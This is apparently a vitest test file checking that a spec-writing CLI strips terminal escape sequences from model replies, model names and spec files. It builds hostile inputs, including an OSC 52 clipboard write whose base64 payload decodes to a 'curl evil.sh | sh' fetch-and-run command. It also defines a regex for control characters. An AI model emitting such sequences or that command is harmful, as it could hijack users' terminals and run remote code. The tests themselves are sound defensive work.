import { execFile } from "node:child_process";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterEach, describe, expect, it } from "vitest";
import { BIN, offlineEnv, REPO_ROOT } from "../support/cli-process.js";
import { type FakeProvider, reply, startFakeProvider } from "../support/fake-provider/index.js";
import { validSpecText } from "../support/spec-text.js";
import { tempDirsForEachTest } from "../support/temp-dir.js";

const tempDir = tempDirsForEachTest();
const servers: FakeProvider[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

const ESC = "\u001b";
const BEL = "\u0007";
/** What a hostile model or file would send: the clipboard written (OSC 52), the title set, the screen cleared. */
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`;
const TITLE = `${ESC}]0;pwned${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const C1 = "\u009b2J\u009d0;c1 title\u009c";
const HOSTILE = `${CLIPBOARD}${TITLE}${CLEAR}${C1}`;

/** Any character a terminal could act on: C0 but newline and tab, DEL, C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const ACTIONABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u;

/**
 * Runs `specwright …` as its own process, with every byte of its output as written. It
 * runs asynchronously, so a fake provider in this process can answer it.
 */
async function specwright(args: string[], env: NodeJS.ProcessEnv = {}) {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, [BIN, ...args], {
      cwd: REPO_ROOT,
      env: offlineEnv(env),
      encoding: "utf8",
    });
    return { stdout, stderr, code: 0 };
  } catch (error) {
    const failed = error as { stdout: string; stderr: string; code: number };
    return { stdout: failed.stdout, stderr: failed.stderr, code: failed.code };
  }
}

function expectOnlyText(output: string): void {
  expect(output).not.toMatch(ACTIONABLE);
}

describe("what a model says reaches the terminal as text", () => {
  it("in the chat, the --answers echo, the conversation so far and specwright history", async () => {
    const server = await startFakeProvider({
      replies: [
        reply().text(`Hello${HOSTILE} there. What shall we build?`),
        reply().text(`Noted${TITLE}. Tell me more.`),
        reply().text("Carrying on."),
      ],
    });
    servers.push(server);
    const env = { OPENAI_BASE_URL: `${server.url}/v1`, SPECWRIGHT_MODEL: "fake-model" };
    const projectsDir = await tempDir();
    const answers = join(projectsDir, "answers.txt");
    await writeFile(answers, `A recipe app${CLIPBOARD} for cooks${CLEAR}\n`);
    const chat = (...args: string[]) =>
      specwright(
        ["chat", "demo", "--engine", "openai-compatible", "--projects-dir", projectsDir, ...args],
        env,
      );

    const first = await chat("--answers", answers);
    expect(first.stderr).toBe("");
    expectOnlyText(first.stdout);
    expect(first.stdout).toContain("Hello there. What shall we build?");
    expect(first.stdout).toContain("› A recipe app for cooks");
    expect(first.stdout).toContain("Noted. Tell me more.");

    // Taken up again: the interview so far is shown, one line a message.
    await writeFile(answers, `More${TITLE}\n`);
    const again = await chat("--answers", answers, "--resume");
    expectOnlyText(again.stdout);
    expect(again.stdout).toContain("Carrying on your interview");
    expect(again.stdout).toMatch(/interviewer\s+Hello there\. What shall we build\?/);
    expect(again.stdout).toMatch(/you\s+A recipe app for cooks/);

    const history = await specwright(["history", "demo", "--projects-dir", projectsDir]);
    expect(history.code, history.stderr).toBe(0);
    expectOnlyText(history.stdout);
    expect(history.stdout).toContain("Hello there. What shall we build?");
    expect(history.stdout).toContain("A recipe app for cooks");
  });

  it("in specwright models, whose names the provider chooses", async () => {
    const server = await startFakeProvider({ replies: [], models: [`evil${HOSTILE}-model`, "plain-model"] });
    servers.push(server);
    const listed = await specwright(
      ["models", "--engine", "openai-compatible", "--model", `evil${TITLE}-model`],
      {
        OPENAI_BASE_URL: `${server.url}/v1`,
      },
    );
    expectOnlyText(listed.stdout);
    expectOnlyText(listed.stderr);
    expect(listed.stdout).toMatch(/^evil-model/m);
    expect(listed.stdout).toContain("plain-model");
  });
});

describe("what a file says reaches the terminal as text", () => {
  it("in specwright validate, whose findings quote the spec", async () => {
    const dir = await tempDir();
    await mkdir(join(dir, "prompts"));
    const spec = validSpecText().replace(
      /<feature_count>\d+<\/feature_count>/,
      `<feature_count>twelve${HOSTILE}</feature_count>`,
    );
    const path = join(dir, "prompts", "app_spec.txt");
    await writeFile(path, spec);
    const checked = await specwright(["validate", path]);
    expect(checked.code).toBe(1);
    expectOnlyText(checked.stdout);
    expect(checked.stdout).toContain('found "twelve"');
  });
});
